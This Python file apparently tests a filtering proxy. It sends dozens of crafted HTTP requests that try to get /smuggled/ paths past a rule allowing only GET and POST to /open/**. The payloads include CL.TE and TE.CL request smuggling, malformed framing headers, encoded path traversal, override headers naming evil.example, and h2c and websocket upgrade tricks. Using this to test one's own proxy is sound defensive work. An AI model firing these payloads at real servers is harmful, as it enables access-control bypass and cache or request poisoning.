"""Requests that two readers could understand differently, against a rule for GET and POST /open/**.

What must not arrive is asked for as /smuggled/NAME; what two readers agree on may arrive.
"""
from tricks import *

END = "\r\n\r\n"


def raw(name, text):
    def attempt():
        with api() as sock:
            data = text.replace("SMUGGLED", f"/smuggled/{name}").replace("AUTH", f"Authorization: Bearer {TOKEN}")
            return talk(sock, data.encode("latin1"))

    TRICKS[name] = attempt


HEAD = f"POST /open/a HTTP/1.1\r\nHost: {API}\r\nAUTH\r\n"
INNER = f"GET SMUGGLED HTTP/1.1\r\nHost: {API}\r\nAUTH\r\nConnection: close{END}"
CHUNKED = "Transfer-Encoding: chunked"
EMPTY = f"0{END}"

raw("cl_te", f"{HEAD}Content-Length: 6\r\n{CHUNKED}{END}{EMPTY}X{INNER}")
raw("te_cl", f"{HEAD}{CHUNKED}\r\nContent-Length: 4{END}5c\r\n{INNER}{EMPTY}")
raw("two_lengths", f"{HEAD}Content-Length: 0\r\nContent-Length: 200{END}{INNER}")
raw("same_lengths", f"{HEAD}Content-Length: 0\r\nContent-Length: 0{END}{INNER}")
raw("length_list", f"{HEAD}Content-Length: 0, 200{END}{INNER}")
raw("length_plus", f"{HEAD}Content-Length: +0{END}{INNER}")
raw("length_minus", f"{HEAD}Content-Length: -1{END}{INNER}")
raw("length_hex", f"{HEAD}Content-Length: 0x0{END}{INNER}")
raw("length_tab", f"{HEAD}Content-Length: \t0 200{END}{INNER}")
raw("length_huge", f"{HEAD}Content-Length: 18446744073709551616{END}{INNER}")
raw("length_name_space", f"{HEAD}Content-Length : 0\r\nContent-Length: 200{END}{INNER}")
raw("length_name_tab", f"{HEAD}\tContent-Length: 200{END}{INNER}")
raw("coding_unknown", f"{HEAD}Transfer-Encoding: xchunked{END}{EMPTY}{INNER}")
raw("coding_identity", f"{HEAD}Transfer-Encoding: identity, chunked{END}{EMPTY}{INNER}")
raw("coding_not_last", f"{HEAD}Transfer-Encoding: chunked, identity{END}{EMPTY}{INNER}")
raw("coding_twice", f"{HEAD}{CHUNKED}\r\n{CHUNKED}{END}{EMPTY}{INNER}")
raw("coding_cr", f"{HEAD}Transfer-Encoding:\rchunked{END}{EMPTY}{INNER}")
raw("coding_tab", f"{HEAD}Transfer-Encoding:\x0bchunked{END}{EMPTY}{INNER}")
raw("coding_name_space", f"{HEAD}Transfer-Encoding : chunked{END}{EMPTY}{INNER}")
raw("coding_underscore", f"{HEAD}Transfer_Encoding: chunked\r\nContent-Length: 0{END}{EMPTY}{INNER}")
raw("coding_http_1_0", f"{HEAD.replace('HTTP/1.1', 'HTTP/1.0')}{CHUNKED}{END}{EMPTY}{INNER}")
raw("folded", f"{HEAD}X-A: b\r\n {CHUNKED}{END}{EMPTY}{INNER}")
raw("folded_first", f"POST /open/a HTTP/1.1\r\n Host: {API}\r\nAUTH\r\nContent-Length: 0{END}{INNER}")
raw("bare_lf", f"POST /open/a HTTP/1.1\nHost: {API}\nAUTH\nContent-Length: 0\n\n{INNER}")
raw("bare_lf_one", f"{HEAD}X-A: b\nContent-Length: 200\r\nContent-Length: 0{END}{INNER}")
raw("bare_cr", f"{HEAD}X-A: b\rContent-Length: 200\r\nContent-Length: 0{END}{INNER}")
raw("cr_in_name", f"{HEAD}\rX: b{END}{INNER}")
raw("nul_in_value", f"{HEAD}X-A: b\0c{END}{INNER}")
raw("nul_in_name", f"{HEAD}X\0A: b{END}{INNER}")
raw("no_colon", f"{HEAD}Content-Length 0{END}{INNER}")
raw("no_name", f"{HEAD}: b{END}{INNER}")
raw("chunk_size_plus", f"{HEAD}{CHUNKED}{END}+0{END}{INNER}")
raw("chunk_size_hex", f"{HEAD}{CHUNKED}{END}0x0{END}{INNER}")
raw("chunk_size_huge", f"{HEAD}{CHUNKED}{END}10000000000000000\r\n{INNER}{EMPTY}")
raw("chunk_size_negative", f"{HEAD}{CHUNKED}{END}-1\r\n{INNER}{EMPTY}")
raw("chunk_extension_lf", f"{HEAD}{CHUNKED}{END}0;a\n{INNER}{EMPTY}")
raw("chunk_bare_lf", f"{HEAD}{CHUNKED}{END}1\nX\n0\n\n{INNER}")
raw("chunk_no_crlf", f"{HEAD}{CHUNKED}{END}1\r\nXX0{END}{INNER}")
raw("chunk_trailer", f"{HEAD}{CHUNKED}{END}0\r\nContent-Length: 200\r\nHost: {EVIL}{END}{INNER}")
raw("version_2", f"{HEAD.replace('HTTP/1.1', 'HTTP/2.0')}Content-Length: 0{END}{INNER}")
raw("version_0_9", f"POST /open/a\r\n\r\n{INNER}")
raw("version_lower", f"{HEAD.replace('HTTP/1.1', 'http/1.1')}Content-Length: 0{END}{INNER}")
raw("line_spaces", f"{HEAD.replace('POST ', 'POST  ')}Content-Length: 0{END}{INNER}")
raw("line_tab", f"{HEAD.replace('POST ', 'POST' + chr(9))}Content-Length: 0{END}{INNER}")
raw("line_target_space", f"{HEAD.replace('/open/a', '/open/a SMUGGLED')}Content-Length: 0{END}{INNER}")
raw("line_target_crlf", f"{HEAD.replace('/open/a', '/open/a%0d%0aX: y')}Content-Length: 0{END}{INNER}")
raw("method_lower", f"{HEAD.replace('POST', 'post')}Content-Length: 0{END}{INNER}")
raw("method_odd", f"{HEAD.replace('POST', 'PO(ST')}Content-Length: 0{END}{INNER}")
raw("get_with_raw_body", f"GET /open/a HTTP/1.1\r\nHost: {API}\r\nAUTH{END}{INNER}")
raw("after_denied", f"GET /closed HTTP/1.1\r\nHost: {API}\r\nAUTH{END}{INNER}")
raw("after_malformed", f"GET /open/a HTTP/1.1\r\nHost: {API}\r\nHost: {API}\r\nAUTH{END}{INNER}")
raw("after_close", f"GET /open/a HTTP/1.1\r\nHost: {API}\r\nAUTH\r\nConnection: close{END}{INNER}")
raw("expect_odd", f"{HEAD}Expect: 200-ok\r\nContent-Length: 0{END}{INNER}")
raw("hidden_by_headers", HEAD + "".join(f"X-{n}: a\r\n" for n in range(600)) + f"Content-Length: 0\r\nHost: {EVIL}{END}{INNER}")
raw("h2c", f"{HEAD.replace('POST', 'GET')}Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__{END}{INNER}")
raw("h2c_list", f"{HEAD.replace('POST', 'GET')}Connection: Upgrade\r\nUpgrade: websocket, h2c{END}{INNER}")
raw("h2c_no_connection", f"{HEAD.replace('POST', 'GET')}Upgrade: h2c{END}{INNER}")
raw("tls_upgrade", f"{HEAD.replace('POST', 'GET')}Connection: Upgrade\r\nUpgrade: TLS/1.3{END}{INNER}")
raw("preface", f"PRI * HTTP/2.0{END}SM{END}{INNER}")
SOCKET = "Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA=="
GET = HEAD.replace("POST", "GET")
raw("socket_by_post", f"POST SMUGGLED HTTP/1.1\r\nHost: {API}\r\nAUTH\r\n{SOCKET}{END}")
raw("socket_as_post", f"{HEAD}{SOCKET}{END}{INNER}")
raw("socket_with_body", f"{GET}{SOCKET}\r\nContent-Length: 90{END}{INNER}")
raw("socket_not_named", f"{GET}{SOCKET.replace('Connection: Upgrade', 'Connection: keep-alive')}{END}{INNER}")
raw("socket_early", f"{GET}{SOCKET}{END}{INNER}")

PATHS = """/open/../smuggled/X /open/%2e%2e/smuggled/X /open/.%2e/smuggled/X /open/..;/smuggled/X
/open/..%2fsmuggled/X /open/%2e%2e%2fsmuggled/X /open/..%5csmuggled/X /open/..\\smuggled/X
/open/%252e%252e/smuggled/X /open/..%00/smuggled/X /open/%c0%ae%c0%ae/smuggled/X //smuggled/X
/open//../smuggled/X /open/./../smuggled/X /%6fpen/../smuggled/X /OPEN/smuggled/X /opens
/open;/../smuggled/X /smuggled/X;/open/ /smuggled/X?/open/a /smuggled/X#/open/a
/open/a#/../smuggled/X /openx/smuggled/X *""".split()
for index, target in enumerate(PATHS):
    raw(f"path_{index}", f"GET {target.replace('/X', f'/path_{index}')} HTTP/1.1\r\nHost: {API}\r\nAUTH\r\nConnection: close{END}")

OVERRIDES = """X-HTTP-Method-Override:DELETE X-HTTP-Method:DELETE X-Method-Override:DELETE
X-Original-URL:/smuggled/o X-Rewrite-URL:/smuggled/o X-Original-URI:/smuggled/o X-Forwarded-Host:evil.example
X-Forwarded-Uri:/smuggled/o X-Forwarded-Prefix:/smuggled X-Host:evil.example Forwarded:host=evil.example
X-Forwarded-Server:evil.example X-Forwarded-Scheme:http X-Forwarded-Method:DELETE""".split()


@trick
def overrides():
    return ask("/open/o", headers=[line.replace(":", ": ") for line in OVERRIDES])


@trick
def destination():
    return ask("/open/destination", method="POST", headers=["Destination: https://api.acme.example/smuggled/destination"])


@trick
def copy_source():
    return ask("/open/copy", method="POST", headers=["X-Amz-Copy-Source: /smuggled/copy"])


@trick
def method_in_query():
    return ask("/open/m?_method=DELETE", method="POST")


@trick
def hop_by_hop():
    """Would have the filled slot, or the framing, taken off as if it belonged to this hop."""
    listed = "close, authorization, content-length, host, x-mine"
    body = b"hello"
    return ask("/open/hop", method="POST", close=False, body=body, headers=[f"Connection: {listed}", "X-Mine: 1"])


@trick
def hop_headers():
    return ask("/open/own", headers=["Proxy-Authorization: Basic cHJveHk6bWluZQ==", "Proxy-Connection: x",
                                     "TE: trailers", "Keep-Alive: timeout=9", "Trailer: X"])


def plain_in_tunnel(port):
    def attempt():
        with through_proxy(API if port == 443 else PLAIN, port) as sock:
            host = f"{API}:443" if port == 443 else PLAIN
            return talk(sock, request(f"/smuggled/plain_in_tunnel_{port}", method="DELETE", host=host))

    TRICKS[f"plain_in_tunnel_{port}"] = attempt


plain_in_tunnel(80)
plain_in_tunnel(443)


@trick
def not_http():
    seen = b""
    for greeting in (b"SSH-2.0-x\r\n", b"\x00\x01\x02\x03" * 8, b"EHLO a\r\n", b"*1\r\n$4\r\nPING\r\n", b"\x05\x01\x00"):
        with dial(PLAIN, 80) as sock:
            seen += talk(sock, greeting + b"/smuggled/not_http")
    return seen


main()
